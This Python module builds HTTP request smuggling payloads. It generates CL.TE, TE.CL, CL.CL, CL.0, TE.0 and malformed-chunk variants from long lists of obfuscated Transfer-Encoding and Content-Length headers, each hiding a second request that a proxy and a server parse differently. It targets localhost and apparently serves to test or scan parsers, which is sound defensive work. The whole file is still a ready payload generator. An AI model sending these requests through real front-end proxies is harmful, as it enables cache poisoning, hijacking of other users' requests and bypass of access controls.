"""Requests that contain a second one, which a proxy and a server may read differently.

Each technique takes the bytes of the second request, and returns those that a client sends. The
first request runs no task (POST) unless the technique is one for GET or HEAD.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from functools import partial

HOST = b"Host: 127.0.0.1"
CHUNKED = b"Transfer-Encoding: chunked"
END = b"0\r\n\r\n"

Technique = Callable[[bytes], bytes]


def whole(token: bytes) -> bytes:
    """Return a second request that is complete."""
    return b"GET /?second=%b HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n" % token


def beginning(token: bytes) -> bytes:
    """Return the beginning of a second request: the next user's request line would complete it."""
    return b"GET /none?second=%b HTTP/1.1\r\nHost: 127.0.0.1\r\nX: " % token


def plain(token: bytes) -> bytes:
    """Return the request of another user."""
    return b"GET /?user=%b HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n" % token


PAYLOADS = {"whole": whole, "beginning": beginning}


def _send(*fields: bytes, body: bytes, line: bytes = b"POST /?first HTTP/1.1") -> bytes:
    return b"\r\n".join((line, HOST, *fields, b"", body))


def _length(size: int) -> bytes:
    return b"Content-Length: %d" % size


def _chunk(data: bytes, extension: bytes = b"") -> bytes:
    return b"%x%b\r\n%b\r\n" % (len(data), extension, data)


def _length_and(field: bytes, second: bytes) -> bytes:
    """Send a body whose length covers the second request, but a coding may end it before."""
    body = END + second
    return _send(_length(len(body)), field, body=body)


def _coding_and_length(field: bytes, second: bytes) -> bytes:
    """Send a body whose coding covers the second request, but the length may end it before."""
    body = _chunk(second)
    return _send(field, _length(body.index(b"\n") + 1), body=body + END)


def _lengths(fields: bytes, second: bytes) -> bytes:
    """Send a body with several lengths: the one for `%d` covers the second request."""
    return _send(fields % len(second), body=second)


def _in_body(line: bytes, second: bytes) -> bytes:
    """Send the second request in the body of one whose method seldom has a body."""
    return _send(_length(len(second)), body=second, line=line)


def _in_chunk(line: bytes, second: bytes) -> bytes:
    return _send(CHUNKED, body=_chunk(second) + END, line=line)


def _chunks(body: bytes, second: bytes) -> bytes:
    """Send chunks that end before the second request for a tolerant reader."""
    return _send(CHUNKED, body=body.replace(b"SECOND", second))


CODINGS = (
    CHUNKED,
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding\t: chunked",
    b"Transfer-Encoding:\tchunked",
    b"Transfer-Encoding:\x0bchunked",
    b"Transfer-Encoding: chunked\x0b",
    b"Transfer-Encoding:\r\n chunked",
    b" Transfer-Encoding: chunked",
    b"X: y\r\n Transfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"X: y\0\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity, chunked",
    b"Transfer-Encoding: CHUNKED",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: 'chunked'",
    b"Transfer-Encoding: chunked;a=b",
    b"Transfer-Encoding:",
    b"Transfer_Encoding: chunked",
    b"Transfer\xadEncoding: chunked",
    b"\0Transfer-Encoding: chunked",
    b"TE: chunked",
)
LENGTHS = (
    b"Content-Length: 0\r\nContent-Length: %d",
    b"Content-Length: %d\r\nContent-Length: 0",
    b"Content-Length: 0, %d",
    b"Content-Length: %d, 0",
    b"Content-Length: +%d",
    b"Content-Length: -%d",
    b"Content-Length: %d.0",
    b"Content-Length: 0x%x",
    b"Content-Length: 0%o",
    b"Content-Length: 0 %d",
    b"Content-Length: %d\x0b",
    b"Content-Length : %d",
    b"Content_Length: %d",
    b"Content-Length: 0\r\nContent_Length: %d",
    b"X: y\r\n Content-Length: %d",
    b"X: y\nContent-Length: %d",
    b"X: y\rContent-Length: %d",
    b"X: y\x85Content-Length: %d",
    b"Connection: Content-Length\r\nContent-Length: %d",
    b"Expect: 100-continue\r\nContent-Length: %d",
    b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nContent-Length: %d",
    b"Host: shop.test\r\nContent-Length: %d",
)
LINES = (
    b"GET / HTTP/1.1",
    b"HEAD / HTTP/1.1",
    b"OPTIONS / HTTP/1.1",
    b"DELETE / HTTP/1.1",
    b"GET / HTTP/1.0",
    b"GET http://shop.test/ HTTP/1.1",
    b"GET /none HTTP/1.1",
)
BODIES = (
    b"5;\n" + b"hello\r\n0\r\n\r\nSECOND",
    b"5\nhello\r\n0\r\n\r\nSECOND",
    b"5\r\nhello0\r\n\r\nSECOND",
    b"5\r\nhello\n0\n\nSECOND",
    b"0\n\nSECOND",
    b"0;a=\r\n\r\nSECOND",
    b"00000\r\n\r\nSECOND",
    b"-0\r\n\r\nSECOND",
    b"0x0\r\n\r\nSECOND",
    b"\r\n0\r\n\r\nSECOND",
    b"0\r\nContent-Length: 44\r\n\r\nSECOND",
    b"0\r\nX: y\n\nSECOND",
    b"2;a=\nxx\r\n4c\r\n0\r\n\r\nSECOND",
    b'5;a="\r\nhello\r\n0;"\r\n\r\nSECOND',
    b"10000000000000000\r\n0\r\n\r\nSECOND",
)


def _text(name: str, data: bytes) -> str:
    return f"{name} {data!r}"


TECHNIQUES: Mapping[str, Technique] = {
    **{_text("CL.TE", field): partial(_length_and, field) for field in CODINGS},
    **{_text("TE.CL", field): partial(_coding_and_length, field) for field in CODINGS},
    **{_text("CL.CL", field): partial(_lengths, field) for field in LENGTHS},
    **{_text("CL.0", line): partial(_in_body, line) for line in LINES},
    **{_text("TE.0", line): partial(_in_chunk, line) for line in LINES},
    **{_text("chunks", body): partial(_chunks, body) for body in BODIES},
}
